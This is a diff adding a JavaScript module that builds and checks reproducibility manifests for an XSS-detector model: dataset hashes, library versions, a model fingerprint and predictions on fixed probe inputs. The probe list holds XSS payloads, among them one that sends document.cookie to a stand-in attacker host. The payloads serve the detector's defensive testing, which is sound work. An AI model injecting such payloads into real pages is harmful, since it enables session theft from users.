@@ -0,0 +1,206 @@
+const fs = require('fs');
+const path = require('path');
+const crypto = require('crypto');
+const { parseDatasetSpec } = require('./dataset_loaders');
+const { SCHEMA_HASH, FEATURES, FEATURE_GROUPS } = require('./feature_schema');
+const { LEXICAL_VERSION } = require('./lexical_features');
+const { predictBatch } = require('./ml_model');
+
+// Training manifest: everything needed to rerun a training and check that it reproduces the
+// model. xss_train.js writes one next to every model it registers (models/<version>/manifest.json);
+// `xss-train verify` retrains from it and compares predictions on PROBE_INPUTS.
+const MANIFEST_VERSION = 1;
+
+// Dataset paths in a manifest are relative to the project directory
+const ROOT = __dirname;
+
+// Fixed inputs whose predictions a reproduced model must match exactly
+const PROBE_INPUTS = [
+    'hello world',
+    'John Smith',
+    'search for blue running shoes size 42',
+    'https://example.com/products?id=42&sort=price',
+    '<b>bold</b> and <i>italic</i> text',
+    '<a href="https://example.com">example</a>',
+    'I like onion= soup',
+    'x < y && y > z',
+    '<script>alert(1)</script>',
+    '<img src=x onerror=alert(1)>',
+    '<svg onload=alert(document.cookie)>',
+    '<a href="javascript:alert(1)">click</a>',
+    '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>',
+    '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
+    '&#60;img src=x onerror=alert(1)&#62;',
+    '<details open ontoggle=eval(atob("YWxlcnQoMSk="))>',
+    '<video><source onerror="setTimeout(\'alert(1)\')">',
+    "';document.write('<img src=//evil.example/'+document.cookie+'>');//"
+];
+
+function sha256(content) {
+    return crypto.createHash('sha256').update(content).digest('hex');
+}
+
+// SHA-256 and size of every dataset file, plus the HAR label rules file a spec refers to
+function fingerprintDatasets(specs) {
+    return specs.map(spec => {
+        const { file, options } = parseDatasetSpec(spec);
+        const content = fs.readFileSync(file);
+        const fingerprint = {
+            spec: path.relative(ROOT, path.resolve(spec)),
+            sha256: sha256(content),
+            bytes: content.length
+        };
+        if (options.labels) {
+            fingerprint.labelsSha256 = sha256(fs.readFileSync(options.labels));
+        }
+        return fingerprint;
+    });
+}
+
+// Dataset spec of a manifest entry, resolved against the project directory
+function resolveSpec(entry) {
+    return path.resolve(ROOT, entry.spec);
+}
+
+/**
+ * Compare a manifest's dataset fingerprints with the files on disk.
+ * Returns a list of problems (empty when every file is unchanged).
+ */
+function checkDatasets(manifest) {
+    const problems = [];
+    manifest.datasets.forEach(entry => {
+        const spec = resolveSpec(entry);
+        const { file } = parseDatasetSpec(spec);
+        if (!fs.existsSync(file)) {
+            problems.push(`${entry.spec}: file not found`);
+            return;
+        }
+        const current = fingerprintDatasets([spec])[0];
+        if (current.sha256 !== entry.sha256) {
+            problems.push(`${entry.spec}: SHA-256 ${current.sha256.substring(0, 12)} differs from the manifest's ${entry.sha256.substring(0, 12)}`);
+        }
+        if (entry.labelsSha256 && current.labelsSha256 !== entry.labelsSha256) {
+            problems.push(`${entry.spec}: label rules file changed`);
+        }
+    });
+    return problems;
+}
+
+// Records per label, and per label within each source
+function countRecords(records) {
+    const counts = { total: records.length, labels: { malicious: 0, clean: 0 }, sources: {} };
+    records.forEach(record => {
+        const label = record.label === 1 ? 'malicious' : 'clean';
+        counts.labels[label]++;
+        if (!counts.sources[record.source]) {
+            counts.sources[record.source] = { malicious: 0, clean: 0 };
+        }
+        counts.sources[record.source][label]++;
+    });
+    return counts;
+}
+
+// Node and the installed version of every dependency in package.json
+function libraryVersions() {
+    const versions = { node: process.version };
+    const pkg = JSON.parse(fs.readFileSync(path.join(ROOT, 'package.json'), 'utf8'));
+    versions[pkg.name] = pkg.version;
+    Object.keys(pkg.dependencies || {}).sort().forEach(name => {
+        try {
+            versions[name] = JSON.parse(fs.readFileSync(path.join(ROOT, 'node_modules', name, 'package.json'), 'utf8')).version;
+        } catch (err) {
+            versions[name] = null;
+        }
+    });
+    return versions;
+}
+
+// Differences between the library versions in a manifest and the installed ones
+function compareLibraries(manifest) {
+    const current = libraryVersions();
+    return Object.keys(Object.assign({}, manifest.libraries, current))
+        .filter(name => manifest.libraries[name] !== current[name])
+        .map(name => `${name}: ${manifest.libraries[name] || 'absent'} in the manifest, ${current[name] || 'absent'} installed`);
+}
+
+// Hash of the trained model itself (backend state and lexical block), independent of file formatting
+function modelFingerprint(model) {
+    return sha256(JSON.stringify({ backend: model.backend, model: model.toJSON(), lexical: model.lexical || null }));
+}
+
+// Raw and calibrated probability of every probe input
+function probePredictions(model) {
+    return predictBatch(model, PROBE_INPUTS).map((prediction, i) => ({
+        input: PROBE_INPUTS[i],
+        rawProbability: prediction.rawProbability,
+        probability: prediction.probability
+    }));
+}
+
+// Probes whose predictions differ from the manifest's (exact comparison)
+function compareProbes(expected, actual) {
+    const mismatches = [];
+    expected.forEach((probe, i) => {
+        const other = actual.find(entry => entry.input === probe.input) || actual[i];
+        if (!other || other.rawProbability !== probe.rawProbability || other.probability !== probe.probability) {
+            mismatches.push({ input: probe.input, expected: probe.probability, actual: other ? other.probability : null });
+        }
+    });
+    return mismatches;
+}
+
+/**
+ * Build a manifest.
+ * run: { command, startedAt (ms), specs, counts, settings, model, metrics }
+ *   settings  what the run needs to be repeated: { folds, seed, maxSamples, groupBy, dedupe,
+ *             backend, hyperparameters, lexical, calibration }
+ *   model     the final trained model, with its calibration attached
+ *   metrics   the model_metrics.json payload
+ */
+function buildManifest(run) {
+    const finishedAt = Date.now();
+    const metrics = run.metrics;
+    return {
+        manifestVersion: MANIFEST_VERSION,
+        command: run.command,
+        startedAt: new Date(run.startedAt).toISOString(),
+        finishedAt: new Date(finishedAt).toISOString(),
+        durationSeconds: (finishedAt - run.startedAt) / 1000,
+        datasets: fingerprintDatasets(run.specs),
+        records: run.counts,
+        settings: run.settings,
+        featureSchema: {
+            hash: SCHEMA_HASH,
+            featureCount: FEATURES.length,
+            groups: Object.fromEntries(FEATURE_GROUPS.map(group => [group.name, group.version])),
+            lexicalVersion: run.settings.lexical ? LEXICAL_VERSION : null
+        },
+        libraries: libraryVersions(),
+        metrics: {
+            k: metrics.k,
+            averageMetrics: metrics.averageMetrics,
+            standardDeviation: metrics.standardDeviation,
+            confusion: metrics.confusion,
+            calibration: {
+                method: metrics.calibration.method,
+                brierScore: metrics.calibration.brierScore,
+                operatingPoints: metrics.calibration.operatingPoints
+            }
+        },
+        modelFingerprint: modelFingerprint(run.model),
+        probes: probePredictions(run.model)
+    };
+}
+
+module.exports = {
+    MANIFEST_VERSION,
+    PROBE_INPUTS,
+    buildManifest,
+    checkDatasets,
+    compareLibraries,
+    compareProbes,
+    countRecords,
+    modelFingerprint,
+    probePredictions,
+    resolveSpec
+};